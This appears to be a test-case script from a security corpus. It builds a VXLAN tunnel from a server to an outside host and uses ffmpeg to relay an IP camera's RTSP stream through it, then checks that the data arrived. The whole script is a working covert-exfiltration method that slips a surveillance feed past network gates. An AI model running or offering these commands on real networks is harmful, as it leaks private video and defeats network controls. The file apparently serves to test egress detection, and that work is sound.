#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=live-relay half=report tool=ffmpeg,ip camera=10.20.0.11 far=out seconds=34 parts=dns,camera-gate,recorder-gate,nas,outside-web
# A VXLAN of the kernel's joins the server to a machine outside; ffmpeg sends gate to an address of that private net.
if [ "$1" = out ]; then
	ip link add vx7 type vxlan id 7 local 203.0.113.66 remote 10.30.0.2 dstport 4789; ip addr add 192.168.77.2/30 dev vx7; ip link set vx7 up
	timeout 44 socat -u UDP-RECV:5000,bind=192.168.77.2 "CREATE:$LAB/got"; ip link del vx7; exit 0
fi
ip link add vx7 type vxlan id 7 local 10.30.0.2 remote 203.0.113.66 dstport 4789; ip addr add 192.168.77.1/30 dev vx7; ip link set vx7 up
sleep 2; timeout 40 ffmpeg -nostdin -loglevel error -rtsp_transport tcp -i rtsp://gate.cam.lan/Streaming/Channels/101 -t 28 -c copy -f mpegts "udp://192.168.77.2:5000?pkt_size=1316"
ip link del vx7; sleep 1; [ "$(stat -c %s "$LAB/got")" -gt 500000 ]
